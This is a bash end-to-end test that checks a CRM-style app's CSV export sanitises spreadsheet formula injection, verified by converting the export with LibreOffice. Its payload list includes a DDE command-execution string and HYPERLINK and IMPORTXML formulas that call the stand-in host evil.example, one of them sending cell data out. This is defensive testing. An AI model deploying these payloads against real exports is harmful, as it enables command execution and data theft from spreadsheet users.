#!/usr/bin/env bash
# A spreadsheet opens the CSV for people and finds no formula in it; in the raw one, which is not for it, it does: so it would find them.
. "$(dirname "$0")/lib.sh"

slug=e2e-sheet-$$
operator=$("$(dirname "$0")/../../dev" ctl operator-key create --name e2e-sheet 2>/dev/null | tail -1)
check "a tenant" "$(request -H "Authorization: Bearer $operator" -H 'Content-Type: application/json' -d "{\"name\":\"Sheet $$\",\"slug\":\"$slug\",\"owner_email\":\"o@$slug.example\",\"owner_name\":\"O\",\"owner_password\":\"garden-gate-squeaks-twice\"}" "$(origin admin)/api/admin/tenants")" 201
request -H 'Content-Type: application/json' -d "{\"email\":\"o@$slug.example\",\"password\":\"garden-gate-squeaks-twice\"}" "$(origin "$slug")/api/auth/login" >/dev/null
session=$(json token)
api() { request -H "Authorization: Bearer $session" -H 'Content-Type: application/json' -d "$2" "$(origin "$slug")/api/$1"; }

# Each of these as a name, as a company and as notes that begin with it; a tag and a heading that are one; and numbers with a plus.
cells=('=1+1' '=cmd|'"'"' /C calc'"'"'!A0' '=HYPERLINK(\"http://evil.example/?x=\"&A1;\"click\")' '+1+1' '-1+1' '@SUM(1;1)' '＝1+1' '＋1' '=IMPORTXML(\"http://evil.example\";\"//a\")'
	'\"=1+1' "'=1+1" '=1+1\";=2+2;\"' '=1+1,=2+2' '={1;2}' '=A1&B1' '= 1 + 1' '=-1' '==1' '%0A=1+1' '=1e3' '=\"a\"')
rows=
for cell in "${cells[@]}"; do
	rows+=",{\"name\":\"$cell\",\"notes\":\"$cell\\n$cell\",\"company\":\"$cell\",\"tags\":[\"=1+1\"]}"
done
rows+=',{"name":"Plus","phone":"+1 512 555 0123"},{"name":"London","phone":"+44 20 7946 0018"}'
check "a tag that is a formula" "$(api tags '{"name":"=1+1"}')" 201
check "a heading that is a formula" "$(api custom_fields '{"entity":"leads","label":"=Sum(A1)","type":"text"}')" 201
check "leads" "$(api leads/batch "{\"rows\":[${rows:1}]}")" 200

# formulas FORMAT: how many cells of the export LibreOffice takes for one.
formulas() {
	curl -s --max-time 60 --cacert "$DEMAND_STATE/tls/ca.pem" -o "$work/$1.csv" -H "Authorization: Bearer $session" "$(origin "$slug")/api/leads/export?format=$1" || return
	soffice "-env:UserInstallation=file://$work/profile" --headless --convert-to fods --outdir "$work" "$work/$1.csv" >"$work/soffice.log" 2>&1 || return
	grep -o 'table:formula=' "$work/$1.fods" | wc -l
}
check "no cell of a sheet is a formula" "$(formulas csv)" 0
# The tag of each row, the first row's name, company and notes, and the second line of notes that began with "'=".
check "and no word is lost" "$(grep -o "<text:p>[^<]*</text:p>" "$work/csv.fods" | grep -c "^<text:p>\(&apos;\|'\)=1+1<")" "$((${#cells[@]} + 4))"
check_match "a number of the house is written as at home" "$(cat "$work/csv.csv")" '\(512\) 555-0123'
check_match "in the raw file there are formulas" "$(formulas raw)" '^[1-9][0-9]+$'
finish
